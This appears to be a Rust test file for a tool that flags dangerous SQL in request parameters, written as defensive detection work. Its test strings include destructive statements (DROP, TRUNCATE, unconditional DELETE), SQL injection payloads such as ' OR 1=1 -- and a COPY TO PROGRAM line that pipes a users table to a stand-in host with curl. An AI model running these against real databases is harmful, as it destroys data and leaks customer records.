use serde_json::json;

use super::*;
use crate::display::warning::node::nodes;

fn told(name: &str, text: &str) -> Vec<String> {
    let params = json!({name: text});
    let found = queries(&nodes(params.as_object().unwrap()));
    found.iter().map(|one| format!("{}{one}", if one.warns() { "! " } else { "" })).collect()
}

#[test]
fn what_a_query_does_is_told_in_plain_words() {
    let reads = "! “sql” reads something, and then changes something else: read every statement.";
    for (text, lines) in [
        (
            "DROP TABLE IF EXISTS public.customers CASCADE",
            &["! “sql” drops “public.customers” for good."][..],
        ),
        ("drop database prod;", &["! “sql” drops “prod” for good."]),
        ("TRUNCATE customers", &["! “sql” deletes every row of “customers”."]),
        ("DELETE FROM customers", &["! “sql” deletes every row of “customers”."]),
        (
            "delete from \"customers\" -- where id = 5",
            &["! “sql” deletes every row of “customers”."],
        ),
        ("DELETE FROM customers WHERE 1=1", &["! “sql” deletes every row of “customers”."]),
        ("DELETE FROM a WHERE id=id", &["! “sql” deletes every row of “a”."]),
        ("DELETE FROM a WHERE (1 = 1)", &["! “sql” deletes every row of “a”."]),
        ("DELETE FROM a WHERE 1 < 2", &["! “sql” deletes every row of “a”."]),
        ("UPDATE a SET role = 'x' WHERE ID = id", &["! “sql” changes every row of “a”."]),
        (
            "COPY users TO PROGRAM 'curl -d @- x.example'",
            &["! “sql” runs a program on the machine of the database."],
        ),
        ("DELETE FROM a WHERE true;", &["! “sql” deletes every row of “a”."]),
        (
            "WITH gone AS (DELETE FROM a RETURNING *) SELECT * FROM gone WHERE x = 1",
            &["! “sql” deletes every row of “a”."],
        ),
        ("UPDATE customers SET plan = 'free'", &["! “sql” changes every row of “customers”."]),
        ("ALTER TABLE customers DROP COLUMN iban", &["! “sql” changes how “customers” is built."]),
        ("GRANT ALL ON customers TO eve", &["! “sql” changes who may do what in a database."]),
        ("SELECT 1 FROM a; DELETE FROM a WHERE id = 5", &[reads]),
        ("SELECT 1 FROM a; DROP TABLE a; --", &["! “sql” drops “a” for good.", reads]),
        (
            "INSERT INTO a VALUES (1); INSERT INTO a VALUES (2)",
            &["“sql” holds several statements: read each of them."],
        ),
        (
            "SELECT * FROM a WHERE name = '' OR 1=1",
            &["! “sql” holds a piece of SQL that changes what a query is about."],
        ),
    ] {
        assert_eq!(told("sql", text), lines, "{text}");
    }
}

#[test]
fn a_piece_of_it_where_no_query_is_expected_is_told() {
    let piece = "! “name” holds a piece of SQL that changes what a query is about.";
    for (text, line) in [
        ("x'; DROP TABLE customers; --", "! “name” holds SQL that drops “customers” for good."),
        ("5; DELETE FROM customers", "! “name” holds SQL that deletes every row of “customers”."),
        (
            "psql -c \"TRUNCATE customers\"",
            "! “name” holds SQL that deletes every row of “customers”.",
        ),
        ("DROP TABLE customers", "! “name” drops “customers” for good."),
        ("0 UNION SELECT iban FROM customers", piece),
        ("x' union all select 1,2,3 -- ", piece),
        ("' OR 1=1 --", piece),
        ("' OR '1'='1", piece),
        ("admin'--", piece),
        ("main; --", piece),
    ] {
        assert_eq!(told("name", text), [line], "{text}");
    }
}

#[test]
fn what_only_reads_like_it_does_not_warn() {
    for (name, text) in [
        ("sql", "SELECT id FROM customers WHERE name = 'DROP TABLE x; --' ORDER BY id;"),
        ("sql", "DELETE FROM customers WHERE id = 5"),
        ("sql", "DELETE FROM customers c USING orders o WHERE c.id = o.id"),
        ("sql", "UPDATE customers AS c SET plan = 'x', a = (SELECT 1) WHERE id = 1"),
        ("sql", "DELETE FROM a WHERE id = 1 AND x = x"),
        ("sql", "DELETE FROM a WHERE a.id = b.id"),
        ("sql", "DELETE FROM a WHERE 1 = 2"),
        ("sql", "DELETE FROM a WHERE n < 2"),
        ("sql", "COPY users TO STDOUT"),
        ("sql", "BEGIN; UPDATE a SET x = 1 WHERE id = 2; COMMIT;"),
        ("sql", "SELECT updated FROM a WHERE 1=1 AND x = 2"),
        ("query", "drop shipping; update settings"),
        ("query", "delete from cart button"),
        ("query", "how to alter table legs"),
        ("query", "{ user(id: 5) { name } }"),
        ("body", "Run `DROP TABLE customers; --` never"),
        ("description", "x'; DROP TABLE customers; --"),
        ("name", "O'Brien; the union select committee"),
        ("name", "truncate customers and drop table"),
        ("title", "drop table customers"),
        ("branch", "fix/drop-table-customers"),
        ("command", "grep -- 'x' y; ls"),
        ("name", "x' or y' -- z"),
    ] {
        assert_eq!(told(name, text), Vec::<String>::new(), "{name}: {text}");
    }
}
